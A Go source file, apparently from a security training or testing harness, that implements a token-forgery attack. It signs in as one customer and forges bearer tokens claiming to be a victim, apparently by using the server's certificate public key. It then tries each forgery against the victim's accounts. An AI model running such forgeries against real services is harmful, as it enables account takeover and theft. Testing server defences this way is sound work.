package attacker

import (
	"context"
	"errors"
	"fmt"

	"keyladder/mobileclient/attacker/attack"
	"keyladder/mobileclient/attacker/forge"
	"keyladder/stages/protect"
)

// tokenForge gets a token as any customer does, and makes others out of it that say that the
// user is the victim. A token carries with it what a server would have to look up otherwise,
// and even how it wants to be verified. All that keeps its bearer from changing that is that
// the server decides beforehand what it believes.
//
//keyladder:code attack-token-forge
func tokenForge(ctx context.Context, g *attack.Given) (attack.Result, error) {
	p, err := attack.NewProgram(g, protect.Identity{ClientID: g.ClientID})
	if err != nil {
		return attack.Result{}, err
	}
	defer p.Close()
	if err := p.Enter(ctx); err != nil {
		return attack.Stopped(err)
	}
	own := p.Caller.Identity().Token
	dressed, err := p.Caller.Dress(protect.Call{Path: "/v1/accounts"})
	if err != nil {
		return attack.Result{}, err
	}
	response, _, err := p.Send(ctx, dressed)
	if err != nil {
		return attack.Result{}, err
	}
	if response.TLS == nil || len(response.TLS.PeerCertificates) == 0 {
		return attack.Result{}, errors.New("the API showed no certificate whose public key could be tried")
	}
	forgeries, err := forge.For(aCustomer, own, response.TLS.PeerCertificates[0])
	if err != nil {
		return attack.Result{}, err
	}
	g.Say("Signed in as ourselves, and took our own token apart: header, claims, signature. Made %d tokens for %s out of it.", len(forgeries), aCustomer)
	for _, forged := range forgeries {
		if err = p.Show(func(as *protect.Identity) { as.Token = forged.Token }); err != nil {
			return attack.Result{}, err
		}
		err = p.Rob(ctx)
		var refused *attack.Refusal
		switch {
		case err == nil:
			g.Say("Served: %s.", forged.What)
			return attack.Result{Claim: true}, nil
		case !errors.As(err, &refused):
			return attack.Result{}, fmt.Errorf("%s: %w", forged.What, err)
		}
		g.Say("Refused: %s.", forged.What)
	}
	return attack.Stopped(err)
}
